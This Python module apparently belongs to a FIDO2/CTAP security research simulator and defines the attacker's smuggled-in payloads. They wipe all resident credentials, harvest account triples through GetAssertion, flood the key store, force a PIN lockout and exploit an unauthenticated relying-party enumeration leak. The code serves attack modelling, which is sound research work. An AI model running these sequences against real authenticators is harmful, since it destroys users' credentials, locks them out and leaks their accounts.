"""What the attacker does with the API it smuggles in (API B).

Every payload is a generator: ``resp = yield request`` sends one request to
the authenticator, the return value is a small result dict.  ``ctx`` carries
the harvested token (or None) and the attacker's RNG.  The same generators
serve the impersonation attacks and the MitM confusions.
"""

from __future__ import annotations

from ..actors import client as cl
from ..authenticator import pinproto
from ..authenticator.device import rp_id_hash
from ..codec import Command, CredMgmtSub, Status


def get_info(ctx):
    resp = yield cl.simple(Command.GET_INFO)
    return {"status": resp.status, "executed": resp.ok, "info": resp.payload or {}}


def selection(ctx):
    resp = yield cl.simple(Command.SELECTION)
    executed = resp.status in (Status.OK, Status.USER_ACTION_TIMEOUT)
    return {"status": resp.status, "executed": executed}


def reset(ctx):
    resp = yield cl.simple(Command.RESET)
    return {"status": resp.status, "executed": resp.ok}


def delete_all(ctx):
    """Metadata, enumerate RPs, enumerate credentials, delete each one."""
    token = ctx.token
    resp = yield cl.cred_mgmt(CredMgmtSub.GET_CREDS_METADATA, None, token)
    if not resp.ok:
        return {"status": resp.status, "executed": False, "found": 0, "deleted": 0}
    found = []
    resp = yield cl.cred_mgmt(CredMgmtSub.ENUM_RPS_BEGIN, None, token)
    rps = []
    if resp.ok:
        rps.append(resp.payload[3]["id"])
        for _ in range(resp.payload[5] - 1):
            nxt = yield cl.cred_mgmt(CredMgmtSub.ENUM_RPS_GET_NEXT_RP)
            if nxt.ok:
                rps.append(nxt.payload[3]["id"])
    for rp_id in rps:
        resp = yield cl.cred_mgmt(CredMgmtSub.ENUM_CREDS_BEGIN, {1: rp_id_hash(rp_id)}, token)
        if not resp.ok:
            continue
        found.append(resp.payload[7]["id"])
        for _ in range(resp.payload[9] - 1):
            nxt = yield cl.cred_mgmt(CredMgmtSub.ENUM_CREDS_GET_NEXT)
            if nxt.ok:
                found.append(nxt.payload[7]["id"])
    deleted, status = 0, Status.OK
    for cred_id in found:
        resp = yield cl.delete_credential(cred_id, token)
        if not resp.ok:
            status = resp.status
            break
        deleted += 1
    return {"status": status, "executed": True, "found": len(found), "deleted": deleted}


def harvest(rp_ids, up: bool = False):
    """GetAssertion per RP (no allow list) to collect (rp, cred, user) triples."""
    def payload(ctx):
        triples, statuses = [], {}
        for rp_id in rp_ids:
            cdh = ctx.rng.randbytes(32)
            resp = yield cl.get_assertion(rp_id, cdh, up=up, token=ctx.token)
            statuses[rp_id] = resp.status.name
            if not resp.ok:
                continue
            batch = [resp.payload]
            for _ in range((resp.payload.get(5) or 1) - 1):
                nxt = yield cl.get_next_assertion()
                if nxt.ok:
                    batch.append(nxt.payload)
            for p in batch:
                user = (p.get(4) or {}).get("id", b"")
                triples.append((rp_id, p[1]["id"], user))
        return {"status": Status.OK if triples else Status.NO_CREDENTIALS,
                "executed": bool(triples), "triples": triples, "per_rp": statuses}
    return payload


def flood(limit: int, max_calls=None):
    """MakeCredential rk=true with throwaway accounts until the store is full."""
    def payload(ctx):
        injected, status = 0, Status.OK
        calls = 0
        while injected < limit and (max_calls is None or calls < max_calls):
            calls += 1
            cdh = ctx.rng.randbytes(32)
            n = ctx.counter("flood")
            req = cl.make_credential(cdh, f"flood-{n}.attacker.example", ctx.rng.randbytes(32),
                                     f"filler{n}", rk=True, token=ctx.token)
            resp = yield req
            status = resp.status
            if not resp.ok:
                break
            injected += 1
        return {"status": status, "executed": injected > 0, "injected": injected,
                "full": status is Status.KEY_STORE_FULL}
    return payload


def lockout(guesses: int = 3, wrong_pin: str = "0000"):
    """Wrong PIN guesses until the device stops answering them."""
    def payload(ctx):
        made, status = 0, Status.OK
        for _ in range(guesses):
            ka = yield cl.key_agreement()
            if not ka.ok:
                status = ka.status
                break
            cose, shared = cl.platform_agreement(ctx.rng, ka.payload[1])
            resp = yield cl.get_pin_token(cose, shared, wrong_pin)
            status = resp.status
            if resp.status in (Status.PIN_INVALID, Status.PIN_AUTH_BLOCKED, Status.PIN_BLOCKED):
                made += 1
            if resp.status is not Status.PIN_INVALID:
                break
        return {"status": status, "executed": made > 0, "guesses": made}
    return payload


def cve_rp_leak(ctx, limit: int = 1000):
    """EnumRPsGetNextRP with no Begin and no token, until it stops answering."""
    leaked, status = [], Status.OK
    for _ in range(limit):
        resp = yield cl.cred_mgmt(CredMgmtSub.ENUM_RPS_GET_NEXT_RP)
        status = resp.status
        if not resp.ok:
            break
        leaked.append(resp.payload[3]["id"])
    return {"status": status, "executed": bool(leaked), "rps": leaked}


def payload_for(api_b: str, rp_ids=(), flood_limit: int = 1000, flood_calls=None, guesses: int = 3):
    return {
        "CM": delete_all,
        "Re": reset,
        "GA": harvest(list(rp_ids)),
        "MC": flood(flood_limit, flood_calls),
        "CP": lockout(guesses),
        "Se": selection,
        "GI": get_info,
    }[api_b]


def drive(gen, send):
    """Run a payload generator synchronously with ``send(req) -> resp``."""
    try:
        req = next(gen)
        while True:
            req = gen.send(send(req))
    except StopIteration as stop:
        return stop.value
